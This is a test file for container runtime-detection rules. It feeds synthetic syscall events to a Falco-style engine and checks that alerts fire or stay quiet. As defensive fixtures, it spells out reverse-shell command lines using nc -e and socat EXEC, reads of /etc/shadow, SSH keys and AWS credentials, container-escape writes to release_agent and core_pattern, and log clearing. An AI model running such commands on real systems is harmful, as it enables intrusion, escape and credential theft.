import { readFileSync } from 'node:fs';
import { basename, dirname } from 'node:path';

import { describe, expect, it } from 'vitest';

import { loadFalcoRules } from '../../policy/falco/engine.js';
import type { RuntimeEvent } from '../../policy/falco/event.js';
import { watchedPathsFor } from '../watch/rule-needs.js';
import { defaultRulesPath } from '../watch/rules-files.js';

const file = defaultRulesPath();
const result = loadFalcoRules([{ file, text: readFileSync(file, 'utf8') }]);

const CONTAINER = {
  id: 'abcdef012345',
  name: 'web',
  imageRepository: 'nginx',
  imageTag: '1',
};

function exec(name: string, args = '', container = true, exepath = `/usr/bin/${name}`) {
  return event('execve', {
    proc: { name, exepath, exe: exepath, args, cmdline: `${name} ${args}`.trim() },
    container: container ? CONTAINER : undefined,
  });
}

function open(path: string, flags = 'O_RDONLY', container = true): RuntimeEvent {
  return event('openat', {
    evt: { type: 'openat', time: 1, dir: '<', args: { name: path, flags } },
    // As the mapper fills them (to-runtime-event.ts).
    fd: { num: 0, name: path, directory: dirname(path), filename: basename(path), typechar: 'f' },
    container: container ? CONTAINER : undefined,
  });
}

function event(type: string, parts: Partial<RuntimeEvent>): RuntimeEvent {
  return {
    evt: { type, time: 1, dir: '<', args: {} },
    proc: { name: 'x' },
    user: { uid: 0, name: 'root' },
    ...parts,
  } as RuntimeEvent;
}

function execUnder(name: string, args: string, parent: string): RuntimeEvent {
  const e = exec(name, args);
  e.proc = { ...e.proc!, ancestors: [{ name: parent }] };
  return e;
}

function connect(port: number, name = 'curl', ip = '203.0.113.7', container = true): RuntimeEvent {
  return event('connect', {
    evt: { type: 'connect', time: 1, dir: '<', args: { fd: 3, family: 'AF_INET', addr: ip, port } },
    proc: { name, cmdline: name },
    fd: {
      num: 3,
      type: 'ipv4',
      typechar: '4',
      sip: ip,
      dip: ip,
      sport: port,
      dport: port,
      name: `->${ip}:${port}`,
    },
    container: container ? CONTAINER : undefined,
  });
}

function sys(
  type: string,
  args: Record<string, string | number>,
  name = 'x',
  container = true,
): RuntimeEvent {
  return event(type, {
    evt: { type, time: 1, dir: '<', args },
    proc: { name, cmdline: name },
    container: container ? CONTAINER : undefined,
  });
}

const SUID = 'S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID';
const PLAIN = 'S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR';

/** For each added rule: one event that fires it and a close one that must not. */
const NEW_RULES: [string, string, RuntimeEvent, string, RuntimeEvent][] = [
  [
    'Bulkhead Netcat Remote Code Execution in Container',
    'nc -e /bin/sh',
    exec('nc', '-e /bin/sh 203.0.113.7 4444'),
    'nc -z port scan',
    exec('nc', '-z 203.0.113.7 80'),
  ],
  [
    'Bulkhead Netcat Remote Code Execution in Container',
    'socat exec:',
    exec('socat', 'tcp:203.0.113.7:4444 EXEC:/bin/bash'),
    'socat relay',
    exec('socat', 'tcp-listen:8080 tcp:backend:80'),
  ],
  [
    'Bulkhead Reverse Shell in Container',
    'sh started by nc',
    execUnder('sh', '', 'nc'),
    'sh started by bash',
    execUnder('sh', '', 'bash'),
  ],
  [
    'Bulkhead Reverse Shell in Container',
    'a connect from bash',
    connect(443, 'bash'),
    'a connect from curl on 443',
    connect(443, 'curl'),
  ],
  [
    'Bulkhead Outbound Connection to Unusual Port from Container',
    'a connect to port 31337',
    connect(31337),
    'a connect to port 443',
    connect(443),
  ],
  [
    'Bulkhead Connection to Mining Pool Port from Container',
    'a connect to port 3333',
    connect(3333),
    'a connect to port 3333 on the host',
    connect(3333, 'curl', '203.0.113.7', false),
  ],
  [
    'Bulkhead Namespace Change in Container',
    'setns by nsenter',
    sys('setns', { flags: 0, fd: 3 }, 'nsenter'),
    'unshare by runc init',
    sys('unshare', { flags: 0x20000, fd: -1 }, 'runc:[2:INIT]'),
  ],
  [
    'Bulkhead Mount in Container',
    'mount of /dev/sda1',
    sys('mount', { source: '/dev/sda1', target: '/mnt', fsType: 'ext4', flags: 0 }, 'mount'),
    'mount of /dev/sda1 on the host',
    sys('mount', { source: '/dev/sda1', target: '/mnt', fsType: 'ext4', flags: 0 }, 'mount', false),
  ],
  [
    'Bulkhead Setuid or Setgid Bit Set in Container',
    'chmod u+s',
    sys('fchmodat', { filename: '/bin/ls', path: '/bin/ls', mode: SUID }, 'chmod'),
    'chmod 755',
    sys('fchmodat', { filename: '/bin/ls', path: '/bin/ls', mode: PLAIN }, 'chmod'),
  ],
  [
    'Bulkhead Log or History Clearing in Container',
    'unlink of /var/log/auth.log',
    sys('unlinkat', { path: '/var/log/auth.log' }, 'rm'),
    'unlink of /tmp/auth.log',
    sys('unlinkat', { path: '/tmp/auth.log' }, 'rm'),
  ],
  [
    'Bulkhead Log or History Clearing in Container',
    'rename of .bash_history',
    sys('renameat2', { oldPath: '/root/.bash_history', newPath: '/tmp/h' }, 'mv'),
    'rename into .bash_history',
    sys('renameat2', { oldPath: '/tmp/h', newPath: '/root/.bash_history' }, 'mv'),
  ],
  [
    'Bulkhead Log or History Clearing in Container',
    'a truncating open of /var/log/dpkg.log',
    open('/var/log/dpkg.log', 'O_WRONLY|O_CREAT|O_TRUNC'),
    'an appending open of /var/log/dpkg.log',
    open('/var/log/dpkg.log', 'O_WRONLY|O_CREAT|O_APPEND'),
  ],
  [
    'Bulkhead Link to Sensitive File in Container',
    'symlink to /etc/shadow',
    sys('symlinkat', { target: '/etc/shadow', linkPath: '/tmp/s' }, 'ln'),
    'symlink to /etc/hostname',
    sys('symlinkat', { target: '/etc/hostname', linkPath: '/tmp/s' }, 'ln'),
  ],
  [
    'Bulkhead Link to Sensitive File in Container',
    'hard link to /etc/passwd',
    sys('linkat', { oldPath: '/etc/passwd', newPath: '/tmp/p' }, 'ln'),
    'hard link from /tmp to /etc/passwd',
    sys('linkat', { oldPath: '/tmp/p', newPath: '/etc/passwd.bak' }, 'ln'),
  ],
  [
    'Bulkhead Shell Startup File Modified in Container',
    'an append to /root/.bashrc',
    open('/root/.bashrc', 'O_WRONLY|O_CREAT|O_APPEND'),
    'a read of /root/.bashrc',
    open('/root/.bashrc'),
  ],
  [
    'Bulkhead Shell Startup File Modified in Container',
    'a rename over /etc/profile',
    sys('renameat', { oldPath: '/tmp/p', newPath: '/etc/profile' }, 'mv'),
    'a rename away from /etc/profile',
    sys('renameat', { oldPath: '/etc/profile', newPath: '/tmp/p' }, 'mv'),
  ],
];

function rulesFor(e: RuntimeEvent): string[] {
  return result.ruleset.evaluate(e).map((m) => m.rule);
}

describe('runtime/rules/bulkhead_rules.yaml', () => {
  it('loads every rule as evaluable, without errors or warnings', () => {
    expect(result.errors).toEqual([]);
    expect(result.warnings).toEqual([]);
    expect(result.statuses.map((s) => s.state)).toEqual(result.statuses.map(() => 'loaded'));
  });

  it.each([
    ['bash in a container', exec('bash', '-c true'), 'Bulkhead Shell in Container'],
    [
      'apt-get in a container',
      exec('apt-get', 'install curl'),
      'Bulkhead Package Manager in Container',
    ],
    [
      'npm install in a container',
      exec('npm', 'install left-pad'),
      'Bulkhead Package Manager in Container',
    ],
    ['/etc/shadow read', open('/etc/shadow'), 'Bulkhead Sensitive File Read in Container'],
    [
      'an SSH key read',
      open('/home/alice/.ssh/id_ed25519'),
      'Bulkhead Sensitive File Read in Container',
    ],
    [
      'AWS credentials read',
      open('/root/.aws/credentials'),
      'Bulkhead Sensitive File Read in Container',
    ],
    [
      'the Docker socket',
      open('/var/run/docker.sock', 'O_RDWR'),
      'Bulkhead Docker Socket Opened in Container',
    ],
    [
      'a release_agent write',
      open('/tmp/cgrp/release_agent', 'O_WRONLY|O_TRUNC'),
      'Bulkhead Release Agent or Core Pattern Write',
    ],
    [
      'a core_pattern write on the host',
      open('/proc/sys/kernel/core_pattern', 'O_WRONLY', false),
      'Bulkhead Release Agent or Core Pattern Write',
    ],
    [
      'ptrace attach',
      event('ptrace', {
        evt: { type: 'ptrace', time: 1, dir: '<', args: { request: 'PTRACE_ATTACH' } },
      }),
      'Bulkhead Ptrace Attach',
    ],
    [
      'memfd_create in a container',
      event('memfd_create', { container: CONTAINER }),
      'Bulkhead Memfd Create in Container',
    ],
    ['a binary in /dev/shm', exec('x', '', false, '/dev/shm/x'), 'Bulkhead Execution from Dev Shm'],
  ])('alerts on %s', (_name, e, rule) => {
    expect(rulesFor(e)).toContain(rule);
  });

  it.each([
    ['bash on the host', exec('bash', '', false)],
    ['pip list in a container', exec('pip', 'list')],
    ['/etc/shadow read on the host', open('/etc/shadow', 'O_RDONLY', false)],
    ['/etc/passwd read in a container', open('/etc/passwd')],
    ['core_pattern read', open('/proc/sys/kernel/core_pattern')],
    [
      'ptrace peek',
      event('ptrace', {
        evt: { type: 'ptrace', time: 1, dir: '<', args: { request: 'PTRACE_PEEKDATA' } },
      }),
    ],
  ])('stays quiet on %s', (_name, e) => {
    expect(rulesFor(e)).toEqual([]);
  });

  it.each(NEW_RULES.map(([rule, hit, fires]) => [rule, hit, fires] as const))(
    '%s fires on %s',
    (rule, _hit, fires) => {
      expect(rulesFor(fires)).toContain(rule);
    },
  );

  it.each(NEW_RULES.map(([rule, , , miss, quiet]) => [rule, miss, quiet] as const))(
    '%s stays quiet on %s',
    (rule, _miss, quiet) => {
      expect(rulesFor(quiet)).not.toContain(rule);
    },
  );

  it('keeps the open filter small enough for bpftrace to attach, covering the new paths', () => {
    // 28 prefixes made the generated program fail to load; 14 attach (test/watch-more.test.ts).
    const paths = watchedPathsFor([readFileSync(file, 'utf8')]);

    expect(paths.length).toBeLessThanOrEqual(14);
    expect(paths).toEqual(
      expect.arrayContaining(['/var/log', '/root/.', '/etc/profile', '/etc/passwd', '/home/']),
    );
  });

  it.each([
    [
      'a truncated /home/alice/.bash_history',
      open('/home/alice/.bash_history', 'O_WRONLY|O_TRUNC'),
    ],
    ['an appended /home/alice/.profile', open('/home/alice/.profile', 'O_WRONLY|O_APPEND')],
  ])('alerts on %s through the home glob', (_name, e) => {
    expect(rulesFor(e).length).toBe(1);
  });

  it('renders the connection and chmod fields of the new rules', () => {
    const [mining] = result.ruleset.evaluate(connect(3333));
    const [suid] = result.ruleset.evaluate(
      sys('fchmodat', { filename: '/bin/ls', path: '/bin/ls', mode: SUID }, 'chmod'),
    );

    expect(mining?.outputFields).toMatchObject({
      'fd.name': '->203.0.113.7:3333',
      'fd.dport': '3333',
      'container.name': 'web',
    });
    expect(suid?.outputFields).toMatchObject({ 'evt.arg.filename': '/bin/ls' });
  });

  it('renders the fields the alerts promise', () => {
    const [match] = result.ruleset.evaluate(open('/etc/shadow'));

    expect(match?.outputFields).toMatchObject({
      'fd.name': '/etc/shadow',
      'container.name': 'web',
      'container.image.repository': 'nginx',
      'user.name': 'root',
    });
  });
});
